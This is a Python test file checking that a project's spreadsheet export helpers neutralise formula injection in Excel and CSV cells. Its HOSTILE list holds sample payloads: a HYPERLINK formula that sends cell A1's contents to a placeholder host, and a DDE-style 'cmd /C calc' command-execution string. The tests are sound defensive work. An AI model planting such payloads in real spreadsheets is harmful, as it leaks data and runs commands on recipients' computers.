import csv
import io

from openpyxl import Workbook, load_workbook

from theodoi.lib.spreadsheet import csv_cell, neutralise_formulas

HOSTILE = [
    '=HYPERLINK("http://x.invalid/?"&A1,"Bấm vào đây")',
    "+84 912 345 678",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "＝1+1",
]


def _saved(wb) -> bytes:
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def test_hostile_text_is_written_as_text_and_read_back_as_written():
    wb = Workbook()
    ws = wb.active
    for text in HOSTILE:
        ws.append([text, 42, "Phòng Kinh tế"])
    assert neutralise_formulas(wb) == len(HOSTILE)
    back = load_workbook(io.BytesIO(_saved(wb))).active
    for row, text in zip(back.iter_rows(), HOSTILE, strict=True):
        assert row[0].data_type == "s" and row[0].value == text
        assert row[0].quotePrefix  # Excel shows it as typed, with no formula bar surprise
        assert row[1].value == 42 and row[2].value == "Phòng Kinh tế"


def test_ordinary_cells_are_left_alone():
    wb = Workbook()
    wb.active.append(["Tỷ lệ hộ dùng cáp quang", 3.5, None, "≥ 80%"])
    assert neutralise_formulas(wb) == 0


def test_csv_cells_that_a_spreadsheet_would_run_get_an_apostrophe():
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([csv_cell(v) for v in [*HOSTILE, -5, "Đạt"]])
    row = next(csv.reader(io.StringIO(out.getvalue())))
    assert all(cell.startswith("'") for cell in row[: len(HOSTILE)])
    assert row[len(HOSTILE) :] == ["-5", "Đạt"]
